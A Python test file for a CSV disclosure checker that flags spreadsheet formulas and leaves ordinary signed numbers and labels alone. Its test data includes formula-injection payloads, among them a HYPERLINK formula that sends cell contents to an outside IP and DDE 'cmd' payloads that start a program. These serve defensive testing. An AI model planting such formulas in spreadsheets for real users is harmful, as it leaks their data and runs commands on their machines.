"""Texts of CSV files that a spreadsheet would run, and the many that only begin like one."""

import time

import pytest

from extracts.disclosure.policy import SRS_10
from extracts.disclosure.reading.formats import read

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"North")', "=1+1", "= A1", "@SUM(A1)", "+SUM(A1)", "-cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "+North", "-North", "+1+SUM(A1:A3)", "--SUM(1)", "- SUM(1)", "-=1", "+@SUM(1)",
]  # fmt: skip
ORDINARY = [
    "-", "--", "-3.5", "+3", "-1,234", "-£30", "-5%", "-3 to 4", "+ve", "-ve", "-inf", "- of which women", "+/-",
    "-1 SD", "=", "-0.2 (0.1)", "-5 (-10, 3)", "-0.31***", "-1.2e-5", "-.", "*",
    "- Other offences (excluding fraud)", "a = b", "north@court", "R&D - SUM(1)",
]  # fmt: skip


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def found(text: str, *, name: str = "a.csv") -> list[tuple[str, str, str]]:
    """What is said of a file with this text as a label."""
    content = f"area,n\n{quoted(text)},40\nSouth,30\n".encode()
    return [(one.rule, str(one.verdict), one.place) for one in read(content, name, SRS_10).concealed]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_for_a_person(text: str) -> None:
    assert found(text) == [("active_content", "review", "row 2")]


@pytest.mark.parametrize("text", ORDINARY)
def test_numbers_and_signs_are_no_formulas(text: str) -> None:
    assert found(text) == []


def test_numbers_below_zero_and_signs_of_hiding_are_no_formulas() -> None:
    content = b"term,coefficient,low\nage,-0.31,-1.2e-3\nincome,-,--\ntenure,+0.2,-5\n"
    assert read(content, "a.csv", SRS_10).concealed == ()


@pytest.mark.parametrize(
    ("content", "place"),
    [
        ("area,=1+1\nNorth,40\n", "headings"),
        ("=1+1\n\narea,n\nNorth,40\n", "lines outside of the table"),
        ("area;n\nNorth;40\n=A1;30\n", "row 3"),
        ("area,n\nNorth,40\n\n=1+1\n", "lines outside of the table"),
    ],
)
def test_formulas_are_found_wherever_they_stand(content: str, place: str) -> None:
    assert [one.place for one in read(content.encode(), "a.csv", SRS_10).concealed] == [place]


def test_formulas_in_a_table_separated_by_tabs_are_found() -> None:
    concealed = read(b"area\tn\n=1+1\t40\n", "a.tsv", SRS_10).concealed
    assert [one.place for one in concealed] == ["row 2"]


def test_a_text_of_nothing_but_signs_takes_no_time() -> None:
    """Tried from each of its signs, this would take minutes."""
    started = time.process_time()
    assert found("+ " * 60_000) == []
    assert time.process_time() - started < 0.2
